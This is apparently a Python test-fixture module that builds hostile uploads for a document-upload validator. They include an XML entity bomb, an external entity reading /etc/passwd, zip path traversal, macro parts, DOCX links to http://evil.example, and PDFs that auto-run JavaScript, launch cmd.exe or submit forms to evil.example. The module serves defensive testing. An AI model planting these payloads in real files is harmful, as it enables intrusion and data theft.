"""Files that nobody should take, or not as they are: name, content, and what must become of them."""

import io
import struct
import zipfile
from collections.abc import Callable, Iterator
from typing import Any

import pikepdf
from PIL import Image

ODT_TYPE = "application/vnd.oasis.opendocument.text"
TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
DOCUMENT = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
BOMB = '<!DOCTYPE b [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><b>&b;</b>'
OUTSIDE = '<!DOCTYPE b [<!ENTITY a SYSTEM "file:///etc/passwd">]><b>&a;</b>'


def packed(parts: dict[str, str | bytes], *, stored_first: bool = False, comment: bytes = b"") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for n, (name, data) in enumerate(parts.items()):
            how = zipfile.ZIP_STORED if stored_first and n == 0 else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=how)
        archive.comment = comment
    return buffer.getvalue()


def docx(more: dict[str, str | bytes] | None = None, **options: Any) -> bytes:
    return packed({"[Content_Types].xml": TYPES, "word/document.xml": DOCUMENT} | (more or {}), **options)


def odt(more: dict[str, str | bytes] | None = None) -> bytes:
    parts: dict[str, str | bytes] = {
        "mimetype": ODT_TYPE,
        "content.xml": "<c/>",
        "META-INF/manifest.xml": "<m/>",
    }
    return packed(parts | (more or {}), stored_first=True)


def picture(form: str, size: tuple[int, int] = (40, 30), **how: Any) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, "#a83a17").save(buffer, form, **how)
    return buffer.getvalue()


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **how: Any) -> bytes:
    made = pikepdf.new()
    made.add_blank_page()
    if change:
        change(made)
    buffer = io.BytesIO()
    made.save(buffer, **how)
    return buffer.getvalue()


def action(kind: str, **more: Any) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name(kind), **more)


def open_action(kind: str, **more: Any) -> bytes:
    return pdf(lambda made: made.Root.__setattr__("OpenAction", action(kind, **more)))


def on_page(name: str, value: Any) -> bytes:
    return pdf(lambda made: made.pages[0].obj.__setitem__(f"/{name}", value))


def annotation(kind: str, **more: Any) -> bytes:
    def add(made: pikepdf.Pdf) -> None:
        note = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(kind), Rect=[0, 0, 9, 9], **more
        )
        made.pages[0].obj["/Annots"] = made.make_indirect(pikepdf.Array([made.make_indirect(note)]))

    return pdf(add)


def attached() -> bytes:
    def add(made: pikepdf.Pdf) -> None:
        made.attachments["evil.exe"] = b"MZ evil"

    return pdf(add)


def png_of(width: int, height: int) -> bytes:
    """A picture that says it is huge and holds nothing."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    import zlib

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")
    )


def refused() -> Iterator[tuple[str, bytes, str]]:
    """(name, content, code): what is not taken."""
    for name in (
        "a.exe",
        "a.html",
        "a.svg",
        "a.js",
        "a.docm",
        "a.doc",
        "a.zip",
        "a.php",
        "a.pdf.exe",
        "a",
        "a.gif",
    ):
        yield name, pdf(), "unknown_kind"
    yield "a.pdf", b"", "empty"
    yield "a.pdf", b"%PDF-1.7" + b"0" * (10 * 1024**2), "too_large"
    kinds = {"pdf": pdf(), "docx": docx(), "odt": odt(), "jpg": picture("JPEG"), "png": picture("PNG")}
    for ending in kinds:
        for other, content in kinds.items():
            if other != ending:
                yield f"a.{ending}", content, "not_what_it_says"
    for ending in kinds:
        yield f"a.{ending}", b"MZ\x90\x00 a program", "not_what_it_says"
        yield f"a.{ending}", b"<script>alert(1)</script>", "not_what_it_says"
    for ending in ("pdf", "docx", "odt", "jpg", "png"):
        yield f"a.{ending}", kinds[ending][: len(kinds[ending]) // 3], "*"
    yield from _packed_ones()
    yield "a.png", png_of(60_000, 60_000), "*"
    yield "a.png", png_of(8_000, 8_000), "picture_too_large"
    yield "a.png", png_of(0, 10), "*"
    yield "a.pdf", pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "locked"
    yield "a.pdf", pdf(encryption=pikepdf.Encryption(owner="o", user="")), "locked"
    yield "a.pdf", b"%PDF-1.7\n%%EOF", "broken"


def _packed_ones() -> Iterator[tuple[str, bytes, str]]:
    for part in ("word/vbaProject.bin", "word/activeX/a.xml", "word/embeddings/a.bin", "word/oleObject1.bin"):
        yield "a.docx", docx({part: "x"}), "runs_something"
    for part in ("Basic/a.xml", "Scripts/a.py", "Object 1/content.xml"):
        yield "a.odt", odt({part: "<x/>"}), "runs_something"
    for part in ("../a.xml", "/etc/a", "word/../../a", "C:a.xml", "word\\..\\..\\a"):
        yield "a.docx", docx({part: "<x/>"}), "broken"
    yield "a.docx", docx({"WORD/DOCUMENT.XML": DOCUMENT}), "broken"
    for text in (BOMB, OUTSIDE, "<not closed", "\x00"):
        yield "a.docx", docx({"word/styles.xml": text}), "broken"
        yield "a.odt", odt({"styles.xml": text}), "broken"
    yield "a.docx", docx({"word/media/a.bin": b"0" * 60 * 1024**2}), "unpacks_too_large"
    yield "a.odt", odt({"Pictures/a": b"0" * 8 * 1024**2}), "unpacks_too_large"
    yield "a.docx", docx({f"word/{n}": "x" for n in range(501)}), "unpacks_too_large"
    yield "a.docx", docx() + b"<script>", "broken"
    yield "a.docx", docx(comment=b"PK hidden"), "broken"
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    for what in ("attachedTemplate", "oleObject", "frame", "image"):
        said = (
            f'<Relationship Id="a" TargetMode="External" Type="{kind}{what}" Target="http://evil.example/a"/>'
        )
        yield "a.docx", docx({"word/_rels/document.xml.rels": RELS.format(said)}), "reaches_elsewhere"
    yield (
        "a.docx",
        docx({"[Content_Types].xml": TYPES.replace("/>", ' a="macroEnabled"/>')}),
        "runs_something",
    )
    yield "a.docx", packed({"a.txt": "x"}), "not_what_it_says"
    yield "a.odt", packed({"mimetype": ODT_TYPE, "a.xml": "<x/>"}, stored_first=True), "not_what_it_says"
    yield "a.odt", odt({"META-INF/manifest.xml": "<encryption-data/>"}), "locked"
    yield "a.odt", odt({"content.xml": '<c xmlns:script="s"><script:event-listener/></c>'}), "runs_something"


def disarmed() -> Iterator[tuple[str, bytes]]:
    """(what, content): PDF files that are taken without what they carried."""
    yield "a script at the start", open_action("/JavaScript", JS="app.alert(1)")
    yield "a program at the start", open_action("/Launch", F="cmd.exe")
    yield "a form that sends itself", open_action("/SubmitForm", F="http://evil.example")
    yield "data from elsewhere", open_action("/ImportData", F="evil")
    yield "another file", open_action("/GoToR", F="evil.pdf")
    yield "a file inside", attached()
    yield "an act of a page", on_page("AA", pikepdf.Dictionary(O=action("/JavaScript", JS="x")))
    for kind in ("/Launch", "/JavaScript", "/SubmitForm", "/GoToE", "/Rendition", "/ImportData"):
        yield f"a link with {kind}", annotation("/Link", A=action(kind, JS="x", F="evil"))
    for kind in ("/FileAttachment", "/RichMedia", "/Screen", "/Movie", "/Sound", "/3D"):
        yield (
            f"a note with {kind}",
            annotation(kind, FS=pikepdf.Dictionary(F="evil"), A=action("/Launch", F="evil")),
        )
    yield (
        "a form with its own script",
        pdf(lambda made: made.Root.__setattr__("AcroForm", pikepdf.Dictionary(XFA=pikepdf.String("evil")))),
    )
    yield (
        "scripts by name",
        pdf(
            lambda made: made.Root.__setattr__(
                "Names",
                pikepdf.Dictionary(
                    JavaScript=pikepdf.Dictionary(Names=["a", action("/JavaScript", JS="evil")])
                ),
            )
        ),
    )
